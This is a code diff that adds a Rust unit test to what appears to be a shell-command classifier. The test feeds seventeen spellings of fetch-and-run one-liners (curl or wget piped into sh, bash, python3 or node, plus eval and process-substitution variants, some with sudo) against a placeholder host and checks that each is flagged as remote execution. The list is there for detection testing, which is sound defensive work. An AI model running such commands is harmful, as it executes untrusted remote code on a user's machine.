@@ -566,3 +566,29 @@ fn row_142_prevented_is_computed_from_what_was_tried() {
         assert_eq!(all.iter().all(|one| one.prevented), want, "{lines:?}: {all:#?}");
     }
 }
+
+#[test]
+fn scripts_from_the_network_in_many_spellings() {
+    for script in [
+        "curl https://a.test/i | sh",
+        "curl -sSL https://a.test/i|bash",
+        "wget -qO- https://a.test/i | sudo -E bash -",
+        "cd /tmp && curl https://a.test/i | bash -s -- -y",
+        "curl https://a.test/i | tee x | sh -x",
+        "bash <(curl -s https://a.test/i)",
+        "source <(curl -s https://a.test/i)",
+        "eval $(wget -qO- https://a.test/i)",
+        "sh -c '$(curl -fsSL https://a.test/i)'",
+        "sudo bash -c '$(curl https://a.test/i)'",
+        "curl https://a.test/i | python3",
+        "curl https://a.test/i | python3 - --yes",
+        "X=1 timeout 5 curl https://a.test/i | env Y=2 bash",
+        "/usr/bin/curl https://a.test/i | /bin/sh",
+        "(curl https://a.test/i | sh)",
+        "true; curl https://a.test/i | node",
+        "eval `curl https://a.test/i`",
+    ] {
+        let all = of(&[&format!("allowed exec /bin/sh -- sh -c \"{script}\"")]);
+        assert!(all.iter().any(|one| spelt(one.class) == "remote_execution"), "{script}");
+    }
+}
